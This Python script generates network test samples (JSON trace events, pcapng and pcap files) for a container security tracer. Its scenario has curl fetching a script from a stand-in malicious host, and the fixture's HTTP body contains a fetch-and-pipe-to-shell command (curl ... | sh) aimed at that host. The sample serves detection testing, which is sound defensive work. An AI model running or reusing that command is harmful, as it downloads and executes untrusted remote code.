#!/usr/bin/env python3
"""Writes the network samples in tests/samples/network/ (deterministic; Python 3 stdlib only).

One scenario: in container `web` (pod web-7d4b9c-x2x9q, namespace shop), `curl` (pid 37) resolves
evil.example.com and downloads http://198.51.100.7/x.sh.

  events.json                  Tracker JSON events (trace.Event, as Tracee v0.20+ writes them):
                               security_socket_connect, net_packet_dns_request/response,
                               net_packet_http_request/response and net_packet_raw
  capture-web.pcapng           what `tracker --capture network` writes for the container: pcapng as
                               gopacket's NgWriter writes it (little endian, link type NULL, interface
                               "tracee" whose description is the capture's context JSON)
  capture-host.pcap            classic libpcap (microseconds, link type NULL): an unrelated ping
  capture-two-sections.pcapng  two sections, as when Tracker reopens a capture file: curl's connection
                               teardown, then a DNS lookup by `wget` (pid 52)

Every packet is built byte by byte (IPv4, UDP, TCP, DNS, HTTP) with correct lengths and checksums.

Run from anywhere: python3 scripts/gen-network-samples.py
"""

import base64
import json
import os
import struct

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "samples", "network")

T0 = 1732350000000000000  # 2024-11-23 08:20:00 UTC, in nanoseconds
MS = 1_000_000
US = 1_000

CLIENT = "10.0.0.5"
RESOLVER = "10.0.0.2"
SERVER = "198.51.100.7"
CLIENT_UDP_PORT = 46259
CLIENT_TCP_PORT = 50064

CONTAINER = {
    "id": "c373adfdc4ac4c3a330c4fda09ad9398bcfb99c381b97cb044c813a397547def",
    "name": "web",
    "image": "docker.io/library/nginx:1.25",
}
IMAGE_DIGEST = "docker.io/library/nginx@sha256:0f04e4f646a3f14bf31d8bc8d885b6c951fdcf42589d06845f64d18aec6a3c4d"
KUBERNETES = {"podName": "web-7d4b9c-x2x9q", "podNamespace": "shop", "podUID": "5cb83966-e274-48f1-89fb-25bd748d2773"}
HOSTNAME = "web-7d4b9c-x2x9q"
MOUNT_NS = 4026532371
PID_NS = 4026532374
CGROUP_ID = 8642

CURL = {
    "processName": "curl",
    "threadStartTime": 1732349999500000000,
    "processId": 37,
    "threadId": 37,
    "parentProcessId": 1,
    "hostProcessId": 191684,
    "hostThreadId": 191684,
    "hostParentProcessId": 191677,
    "userId": 0,
    "entityId": 2831960521,
    "parentEntityId": 1979384467,
}
WGET = dict(
    CURL,
    processName="wget",
    threadStartTime=1732350011800000000,
    processId=52,
    threadId=52,
    hostProcessId=191702,
    hostThreadId=191702,
    entityId=3052167342,
)


# ---------------------------------------------------------------- packets


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip4(addr):
    return bytes(int(part) for part in addr.split("."))


def ipv4(src, dst, proto, payload, ident, ttl=64):
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, ttl, proto, 0, ip4(src), ip4(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def pseudo_header(src, dst, proto, length):
    return struct.pack("!4s4sBBH", ip4(src), ip4(dst), 0, proto, length)


def udp(src, dst, sport, dport, payload, ident):
    length = 8 + len(payload)
    segment = struct.pack("!HHHH", sport, dport, length, 0) + payload
    csum = checksum(pseudo_header(src, dst, 17, length) + segment) or 0xFFFF
    return ipv4(src, dst, 17, segment[:6] + struct.pack("!H", csum) + segment[8:], ident)


TCP_FIN, TCP_SYN, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x08, 0x10
# MSS 1460, NOP, window scale 7, NOP, NOP, SACK permitted
SYN_OPTIONS = bytes([2, 4, 0x05, 0xB4, 1, 3, 3, 7, 1, 1, 4, 2])


def tcp(src, dst, sport, dport, seq, ack, flags, payload=b"", options=b"", window=502, ident=0, ttl=64):
    offset = (20 + len(options)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset << 4, flags, window, 0, 0) + options
    segment = header + payload
    csum = checksum(pseudo_header(src, dst, 6, len(segment)) + segment)
    segment = segment[:16] + struct.pack("!H", csum) + segment[18:]
    return ipv4(src, dst, 6, segment, ident, ttl)


def dns_name(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def dns_query(ident, name):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1)


def dns_answer(ident, name, address, ttl):
    question = dns_name(name) + struct.pack("!HH", 1, 1)
    answer = struct.pack("!HHHIH4s", 0xC00C, 1, 1, ttl, 4, ip4(address))
    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + question + answer


HTTP_BODY = b"#!/bin/sh\ncurl -s http://198.51.100.7/m | sh\n"
assert len(HTTP_BODY) == 45
HTTP_DATE = "Sat, 23 Nov 2024 08:20:00 GMT"
HTTP_REQUEST = b"GET /x.sh HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: curl/8.3.0\r\nAccept: */*\r\n\r\n"
HTTP_RESPONSE = (
    b"HTTP/1.1 200 OK\r\nDate: " + HTTP_DATE.encode() + b"\r\nContent-Type: text/x-sh\r\n"
    b"Content-Length: 45\r\n\r\n" + HTTP_BODY
)

CLIENT_ISN = 0x1A2B3C4D
SERVER_ISN = 0x5E6F7081


def scenario_packets():
    """The container's packets, by name, as IPv4 bytes."""
    c_seq, s_seq = CLIENT_ISN, SERVER_ISN
    sport, web = CLIENT_TCP_PORT, 80
    return {
        "dns_query": udp(CLIENT, RESOLVER, CLIENT_UDP_PORT, 53, dns_query(0x3C5A, "evil.example.com"), 0x9A01),
        "dns_response": udp(
            RESOLVER, CLIENT, 53, CLIENT_UDP_PORT, dns_answer(0x3C5A, "evil.example.com", SERVER, 300), 0x1F02
        ),
        "syn": tcp(CLIENT, SERVER, sport, web, c_seq, 0, TCP_SYN, options=SYN_OPTIONS, window=64240, ident=0x4B10),
        "syn_ack": tcp(
            SERVER, CLIENT, web, sport, s_seq, c_seq + 1, TCP_SYN | TCP_ACK, options=SYN_OPTIONS, window=65160, ttl=52
        ),
        "ack": tcp(CLIENT, SERVER, sport, web, c_seq + 1, s_seq + 1, TCP_ACK, ident=0x4B11),
        "http_get": tcp(
            CLIENT, SERVER, sport, web, c_seq + 1, s_seq + 1, TCP_PSH | TCP_ACK, HTTP_REQUEST, ident=0x4B12
        ),
        "http_200": tcp(
            SERVER,
            CLIENT,
            web,
            sport,
            s_seq + 1,
            c_seq + 1 + len(HTTP_REQUEST),
            TCP_PSH | TCP_ACK,
            HTTP_RESPONSE,
            window=509,
            ident=0x77A0,
            ttl=52,
        ),
    }


def teardown_packets():
    """curl closing the connection (first section of capture-two-sections.pcapng)."""
    c_seq = CLIENT_ISN + 1 + len(HTTP_REQUEST)
    s_seq = SERVER_ISN + 1 + len(HTTP_RESPONSE)
    sport = CLIENT_TCP_PORT
    return [
        tcp(CLIENT, SERVER, sport, 80, c_seq, s_seq, TCP_FIN | TCP_ACK, ident=0x4B13),
        tcp(SERVER, CLIENT, 80, sport, s_seq, c_seq + 1, TCP_FIN | TCP_ACK, window=509, ident=0x77A1, ttl=52),
    ]


def wget_packets():
    """wget resolving another name (second section of capture-two-sections.pcapng)."""
    name = "updates.example.org"
    return [
        udp(CLIENT, RESOLVER, 39104, 53, dns_query(0x51E7, name), 0x9A40),
        udp(RESOLVER, CLIENT, 53, 39104, dns_answer(0x51E7, name, "203.0.113.9", 60), 0x1F40),
    ]


def icmp_echo(src, dst, kind, ident, seq, ip_id):
    payload = bytes(range(0x10, 0x10 + 48))
    message = struct.pack("!BBHHH", kind, 0, 0, ident, seq) + struct.pack("!Q", 1732350000005500) + payload
    message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
    return ipv4(src, dst, 1, message, ip_id)


def null_link(packet):
    """DLT_NULL: the address family in host byte order (little endian here), then the IP packet."""
    return struct.pack("<I", 2) + packet


# ---------------------------------------------------------------- Tracker events


def event(ts, proc, event_id, name, syscall, args):
    """One event line, keys in the order Tracee's trace.Event marshals them."""
    e = {
        "timestamp": ts,
        "threadStartTime": proc["threadStartTime"],
        "processorId": 1,
        "processId": proc["processId"],
        "cgroupId": CGROUP_ID,
        "threadId": proc["threadId"],
        "parentProcessId": proc["parentProcessId"],
        "hostProcessId": proc["hostProcessId"],
        "hostThreadId": proc["hostThreadId"],
        "hostParentProcessId": proc["hostParentProcessId"],
        "userId": proc["userId"],
        "mountNamespace": MOUNT_NS,
        "pidNamespace": PID_NS,
        "processName": proc["processName"],
        "executable": {"path": ""},
        "hostName": HOSTNAME,
        "containerId": CONTAINER["id"],
        "container": CONTAINER,
        "kubernetes": KUBERNETES,
        "eventId": str(event_id),
        "eventName": name,
        "matchedPolicies": ["default"],
        "argsNum": len(args),
        "returnValue": 0,
        "syscall": syscall,
        "stackAddresses": None,
        "contextFlags": {"containerStarted": True, "isCompat": False},
        "threadEntityId": proc["entityId"],
        "processEntityId": proc["entityId"],
        "parentEntityId": proc["parentEntityId"],
        "args": args,
    }
    return json.dumps(e, separators=(",", ":"))


def arg(name, type_, value):
    return {"name": name, "type": type_, "value": value}


def connect(ts, fd, sock_type, addr, port):
    sockaddr = {"sa_family": "AF_INET", "sin_addr": addr, "sin_port": str(port)}
    args = [arg("sockfd", "int", fd), arg("type", "int", sock_type), arg("remote_addr", "struct sockaddr*", sockaddr)]
    return event(ts, CURL, 736, "security_socket_connect", "connect", args)


def pkt_meta(src, dst, sport, dport, proto, packet):
    return arg(
        "metadata",
        "trace.PktMeta",
        {
            "src_ip": src,
            "dst_ip": dst,
            "src_port": sport,
            "dst_port": dport,
            "protocol": proto,
            "packet_len": len(packet),
            "iface": "any",
        },
    )


def raw(ts, syscall, packet):
    data = base64.b64encode(packet).decode()
    return event(ts, CURL, 701, "net_packet_raw", syscall, [arg("data", "bytes", data)])


def scenario_events(p):
    question = {"query": "evil.example.com", "query_type": "A", "query_class": "IN"}
    request = {
        "method": "GET",
        "protocol": "HTTP/1.1",
        "host": SERVER,
        "uri_path": "/x.sh",
        "headers": {"Accept": ["*/*"], "User-Agent": ["curl/8.3.0"]},
        "content_length": 0,
    }
    response = {
        "status": "200 OK",
        "status_code": 200,
        "protocol": "HTTP/1.1",
        "headers": {"Content-Length": ["45"], "Content-Type": ["text/x-sh"], "Date": [HTTP_DATE]},
        "content_length": 45,
    }
    out, udp_out, udp_in = (CLIENT, RESOLVER), (CLIENT_UDP_PORT, 53), (53, CLIENT_UDP_PORT)
    tcp_out, tcp_in = (CLIENT_TCP_PORT, 80), (80, CLIENT_TCP_PORT)
    dns_answers = [{"query_data": question, "dns_answer": [{"answer_type": "A", "ttl": 300, "answer": SERVER}]}]
    return [
        connect(T0 + 1 * MS, 3, 2, RESOLVER, 53),
        event(
            T0 + 2 * MS,
            CURL,
            2007,
            "net_packet_dns_request",
            "sendto",
            [pkt_meta(*out, *udp_out, 17, p["dns_query"]), arg("dns_questions", "[]trace.DnsQueryData", [question])],
        ),
        raw(T0 + 3 * MS, "sendto", p["dns_query"]),
        event(
            T0 + 4 * MS,
            CURL,
            2008,
            "net_packet_dns_response",
            "recvfrom",
            [
                pkt_meta(RESOLVER, CLIENT, *udp_in, 17, p["dns_response"]),
                arg("dns_response", "[]trace.DnsResponseData", dns_answers),
            ],
        ),
        raw(T0 + 5 * MS, "recvfrom", p["dns_response"]),
        connect(T0 + 6 * MS, 5, 1, SERVER, 80),
        raw(T0 + 7 * MS, "connect", p["syn"]),
        event(
            T0 + 8 * MS,
            CURL,
            2010,
            "net_packet_http_request",
            "sendto",
            [pkt_meta(CLIENT, SERVER, *tcp_out, 6, p["http_get"]), arg("http_request", "trace.ProtoHTTPRequest", request)],
        ),
        raw(T0 + 9 * MS, "sendto", p["http_get"]),
        event(
            T0 + 10 * MS,
            CURL,
            2011,
            "net_packet_http_response",
            "recvfrom",
            [
                pkt_meta(SERVER, CLIENT, *tcp_in, 6, p["http_200"]),
                arg("http_response", "trace.ProtoHTTPResponse", response),
            ],
        ),
    ]


# ---------------------------------------------------------------- pcapng, as gopacket's NgWriter writes it


def option(code, value):
    pad = (4 - len(value) % 4) % 4
    return struct.pack("<HH", code, len(value)) + value + b"\0" * pad


def options(opts):
    return b"".join(option(c, v) for c, v in opts) + struct.pack("<HH", 0, 0) if opts else b""


def block(block_type, body):
    length = 12 + len(body)
    return struct.pack("<II", block_type, length) + body + struct.pack("<I", length)


def section_header():
    opts = [(4, b"gopacket"), (2, b"amd64"), (3, b"linux")]  # user application, hardware, OS
    return block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1) + options(opts))


def interface(description):
    opts = [(2, b"tracee"), (1, b"tracee packet capture"), (3, description.encode()), (9, bytes([9]))]
    return block(1, struct.pack("<HHI", 0, 0, 0xFFFFFFFF) + options(opts))


def enhanced_packet(ts_ns, data):
    pad = (4 - len(data) % 4) % 4
    body = struct.pack("<IIIII", 0, ts_ns >> 32, ts_ns & 0xFFFFFFFF, len(data), len(data)) + data + b"\0" * pad
    return block(6, body)


def capture_context(proc):
    """The interface description Tracker writes: the capture's context (pcapng-interface-context.jsonl)."""
    ctx = {
        "container": dict(CONTAINER, imageDigest=IMAGE_DIGEST),
        "kubernetes": dict(KUBERNETES, podSandbox=False),
        "hostName": HOSTNAME,
        "processName": proc["processName"],
        "process": {
            "threadStartTime": proc["threadStartTime"],
            "processId": proc["processId"],
            "cgroupId": CGROUP_ID,
            "threadId": proc["threadId"],
            "parentProcessId": proc["parentProcessId"],
            "hostProcessId": proc["hostProcessId"],
            "hostThreadId": proc["hostThreadId"],
            "hostParentProcessId": proc["hostParentProcessId"],
            "userId": proc["userId"],
            "mountNamespace": MOUNT_NS,
            "pidNamespace": PID_NS,
            "executable": "",
        },
    }
    return json.dumps(ctx, separators=(",", ":"))


def section(proc, timed_packets):
    out = section_header() + interface(capture_context(proc))
    return out + b"".join(enhanced_packet(ts, null_link(pkt)) for ts, pkt in timed_packets)


def capture_web(p):
    # each packet 100 µs after the event that reports it; the handshake's replies 100 µs apart
    timed = [
        (T0 + 2 * MS + 100 * US, p["dns_query"]),
        (T0 + 4 * MS + 100 * US, p["dns_response"]),
        (T0 + 6 * MS + 100 * US, p["syn"]),
        (T0 + 6 * MS + 200 * US, p["syn_ack"]),
        (T0 + 6 * MS + 300 * US, p["ack"]),
        (T0 + 8 * MS + 100 * US, p["http_get"]),
        (T0 + 10 * MS + 100 * US, p["http_200"]),
    ]
    return section(CURL, timed)


def capture_two_sections():
    fin, fin_ack = teardown_packets()
    query, answer = wget_packets()
    first = section(CURL, [(T0 + 11 * MS, fin), (T0 + 11 * MS + 100 * US, fin_ack)])
    second = section(WGET, [(T0 + 12 * MS, query), (T0 + 12 * MS + 200 * US, answer)])
    return first + second


# ---------------------------------------------------------------- classic pcap


def capture_host():
    header = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 0)  # microseconds, link type NULL
    out = header
    for ts_us, pkt in [
        (T0 // US + 5500, icmp_echo("10.0.0.9", "10.0.0.1", 8, 0x0B1D, 1, 0x2211)),
        (T0 // US + 5550, icmp_echo("10.0.0.1", "10.0.0.9", 0, 0x0B1D, 1, 0x8E07)),
    ]:
        data = null_link(pkt)
        out += struct.pack("<IIII", ts_us // 1_000_000, ts_us % 1_000_000, len(data), len(data)) + data
    return out


def main():
    os.makedirs(OUT, exist_ok=True)
    p = scenario_packets()
    files = {
        "events.json": "".join(line + "\n" for line in scenario_events(p)).encode(),
        "capture-web.pcapng": capture_web(p),
        "capture-host.pcap": capture_host(),
        "capture-two-sections.pcapng": capture_two_sections(),
    }
    for name, data in files.items():
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        print(f"{name}: {len(data)} bytes")


if __name__ == "__main__":
    main()
